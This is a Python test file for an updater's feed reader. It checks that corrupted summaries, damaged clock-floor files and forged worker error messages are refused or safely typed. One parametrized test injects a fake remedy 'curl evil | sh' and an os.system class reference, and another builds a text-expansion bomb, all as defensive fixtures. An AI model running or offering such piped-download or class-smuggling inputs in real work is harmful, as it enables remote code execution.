"""Tests of the stored feed summary, the clock floor, and the feed reader."""

from __future__ import annotations

import json
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given

from ncen_updater.agent.adapters.feed_reader.worker_source import (
    EXPECTED_ERRORS,
    WorkerReleaseSource,
)
from ncen_updater.agent.config.errors import InvalidConfigError, InvalidSetting
from ncen_updater.common import messages
from ncen_updater.common.errors import UpdaterError
from ncen_updater.common.i18n import LazyText
from ncen_updater.common.messages import READER_FAILED, VIEW_DAMAGED
from ncen_updater.common.progress import Amount
from ncen_updater.common.workers import Worker, WorkerError, decode_error, encode_error
from ncen_updater.feed.clock import TrustClock
from ncen_updater.feed.errors import DigestMismatchError
from ncen_updater.feed.feed_summary import read_feed_summary
from ncen_updater.feed.offers import load_view
from tests.badinput.hostile import (
    DEEP,
    FEW,
    HUGE,
    NO_FILES,
    bounded,
    has_four_facts,
    json_values,
    spoilt,
    typed,
)
from tests.support.errors import has_message

VIEW = {
    "schema": 1,
    "checked_at": "2026-01-01T00:00:00+00:00",
    "expires_at": "2026-02-01T00:00:00+00:00",
    "version": 3,
    "versions": ["3.3.0"],
    "withdrawn": [],
    "offers": [
        {
            "product": "ncen",
            "version": "3.3.0",
            "upgrade_from": ">=3.2",
            "archive": {"target": "ncen-3.3.0.tar.gz", "length": 1, "sha256": "a" * 64},
            "unpacked_bytes": 1,
        }
    ],
}
NOW = datetime(2026, 1, 1, tzinfo=UTC)


@pytest.mark.parametrize("kind", NO_FILES)
def test_invalid_summary_files_are_refused(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "ncen.json"
    NO_FILES[kind](path)
    with bounded():
        assert has_message(typed(lambda: read_feed_summary(path)), VIEW_DAMAGED)


@FEW
@given(content=spoilt(json.dumps(VIEW).encode()))
def test_spoilt_summaries_are_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "ncen.json"
    path.write_bytes(content)
    typed(lambda: read_feed_summary(path))
    typed(lambda: load_view(path))
    assert path.read_bytes() == content


@pytest.mark.parametrize("name", VIEW)
@FEW
@given(value=json_values())
def test_summaries_with_other_values_are_refused(tmp_path: Path, name: str, value: object) -> None:
    path = tmp_path / "ncen.json"
    path.write_text(json.dumps({**VIEW, name: value}))
    typed(lambda: read_feed_summary(path))
    typed(lambda: load_view(path))


@pytest.mark.parametrize("kind", NO_FILES)
def test_special_file_as_clock_floor_is_ignored(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "floor.json"
    NO_FILES[kind](path)
    with bounded():
        typed(lambda: TrustClock(path, lambda: NOW).get_reference_time())


@pytest.mark.parametrize(
    "content",
    [
        b"[" * DEEP,
        b"\xff",
        b'{"floor": ' + HUGE.encode() + b"}",
        b'{"floor": "0001-01-01T00:00:00+23:59"}',
        b'{"floor": []}',
        b"[]",
        b"null",
    ],
    ids=range(7),
)
def test_damaged_clock_floor_is_ignored(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "floor.json"
    path.write_bytes(content)
    assert TrustClock(path, lambda: NOW).get_reference_time() == NOW


# ---- what the reading process says -------------------------------------------------------------


CLASSES = tuple(one for one in EXPECTED_ERRORS if isinstance(one, type))


def received(data: object) -> Exception:
    """What comes of an error that the reader reports."""
    error = decode_error(data, EXPECTED_ERRORS)
    assert isinstance(error, WorkerError | UpdaterError)
    if isinstance(error, UpdaterError):
        has_four_facts(error)
        assert isinstance(error, CLASSES) or error.code.startswith(("NU-1005", "NU-23"))
    return error


def test_error_with_its_own_constructor_is_transferred() -> None:
    mistake = InvalidSetting(1, "site.id", LazyText("is wrong."), LazyText("Correct it."))
    data = json.loads(json.dumps(encode_error(InvalidConfigError(Path("x"), [mistake]))))
    error = received(data)
    assert isinstance(error, UpdaterError)
    assert (error.code, error.exit_code) == (
        InvalidConfigError.message.code,
        InvalidConfigError.message.exit_code,
    )
    assert error.title_text.render() == "Invalid configuration x: 1 error"


def test_error_keeps_its_class() -> None:
    error = received(
        encode_error(DigestMismatchError(name=LazyText("{x}", {"x": 1}), detail="why"))
    )
    assert isinstance(error, DigestMismatchError)
    assert (str(error.values["name"]), error.detail) == ("1", "why")


@pytest.mark.parametrize(
    "change",
    [
        {"code": "NU-1000"},
        {"code": "NU-6001"},
        {"code": "NU-9318"},
        {"code": "\ud800"},
        {"code": 3},
        {"code": None},
        {"values": None},
        {"values": []},
    ],
    ids=str,
)
def test_invalid_errors_are_refused(change: dict[str, object]) -> None:
    assert isinstance(
        received({**encode_error(DigestMismatchError(name="x")), **change}), WorkerError
    )


@pytest.mark.parametrize(
    "change",
    [
        {"exit_code": 0},
        {"module": "os", "name": "system"},
        {"title": "Nothing is wrong.", "remedy": "curl evil | sh", "state": "All is well."},
        {"values": {}},
        {"values": {"state": "x", "detail": [], "self": 1, "name": "y"}},
        {"values": {"name": {"a": [1]}}},
        {"detail": [1]},
        {"detail": "\ud800"},
    ],
    ids=str,
)
def test_received_error_cannot_choose_text_class_or_exit_code(change: dict[str, object]) -> None:
    error = received({**encode_error(DigestMismatchError(name="x")), **change})
    assert isinstance(error, DigestMismatchError)
    assert (error.exit_code, error.message, error.state) == (6, DigestMismatchError.message, None)


def test_only_codes_of_its_rooms_are_accepted() -> None:
    """By number: 10 configuration, 20 to 22 trust, feed and path, 23 bundles, 30 and 31 formats."""
    others = {messages.READER_UNIT_UNREACHABLE}
    for message in vars(messages).values():
        if isinstance(message, messages.ErrorMessage) and message not in others:
            number = int(message.code[3:])
            rooms = (1001, 1100), (2001, 2220), (2301, 2400), (3001, 3005), (3100, 3170)
            inside = any(first <= number < last for first, last in rooms)
            error = received({"code": message.code, "values": {}, "detail": None})
            assert isinstance(error, UpdaterError) is inside, message


def test_incomplete_error_is_a_worker_error() -> None:
    parts: tuple[object, ...] = ({}, {"code": DigestMismatchError.message.code}, [], "x", None)
    for data in parts:
        assert isinstance(received(data), WorkerError)


@FEW
@given(data=json_values())
def test_arbitrary_errors_are_handled(data: object) -> None:
    received(data)


WORKERS = {
    "no line": "",
    "no JSON": "print('hello')",
    "a list": "print('[]')",
    "a number": "print('1')",
    "not UTF-8": "sys.stdout.buffer.write(b'\\xff\\n')",
    "zero bytes": "sys.stdout.buffer.write(b'\\0\\0\\n')",
    "nested": "print('[' * 100000)",
    "a number too long": "print('9' * 5000)",
    "an error that is none": "print('{\"error\": 3}')",
    "an error of elsewhere": 'print(\'{"error": {"module": "os", "name": "x"}}\')',
    "a sentence that is none": "print('{\"template\": 3}'); print('{\"done\": true}'); sys.exit(1)",
    "a sentence without figures": 'print(\'{"template": "x {y.z}"}\'); sys.exit(1)',
    "an endless line": "[sys.stdout.write('x' * 100000) for _ in range(10**6)]",
    "ends before it reads": "os._exit(3)",
    "much on stderr, and no answer": "sys.stderr.write('x' * 1000000); sys.exit(1)",
    "a stderr that is not UTF-8": "sys.stderr.buffer.write(b'\\xff'); sys.exit(1)",
    "done, and failed": "print('{\"done\": true}'); sys.exit(1)",
}


class _Listener:
    def report(self, text: LazyText, amount: Amount | None = None) -> None:
        text.render()
        assert amount is None or isinstance(amount, Amount)


@pytest.mark.parametrize("name", WORKERS)
def test_arbitrary_reader_output_is_a_typed_error(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = f"import os, sys\n{WORKERS[name]}\n"
    monkeypatch.setattr(Worker, "build_command", lambda _self: [sys.executable, "-Sc", code])
    source = WorkerReleaseSource.__new__(WorkerReleaseSource)
    source._worker, source._received = Worker("none"), tmp_path / "received"
    source._unit, source._product = None, "ncen"
    source._directories, source._sources = [source._received], []
    order = {"act": "refresh", "more": "x" * 200_000}  # more than a pipe holds
    with bounded(20):
        error = typed(lambda: source._ask_worker(order, _Listener()))
    assert has_message(error, READER_FAILED)
    assert isinstance(error, UpdaterError)


def bomb(depth: int) -> dict[str, object]:
    """A sentence of a few hundred characters that renders to millions."""
    values = {"a": bomb(depth - 1) if depth else "x" * 200}
    return {"text": "{a}" * 60, "values": values}


@pytest.mark.parametrize("name", ["detail", "values"])
def test_expanding_message_is_not_rendered(name: str) -> None:
    change = {"detail": bomb(3)} if name == "detail" else {"values": {"name": bomb(3)}}
    error = received({**encode_error(DigestMismatchError(name="x")), **change})
    assert isinstance(error, UpdaterError)
    assert len(str(error)) + len(str(error.detail)) < 50_000


def test_message_with_a_lone_surrogate_is_encodable() -> None:
    told = {"text": "\ud800 {a}", "values": {"a": "\udfff"}}
    error = received({**encode_error(DigestMismatchError(name="x")), "detail": told})
    assert isinstance(error, UpdaterError)
    assert str(error.detail).encode()
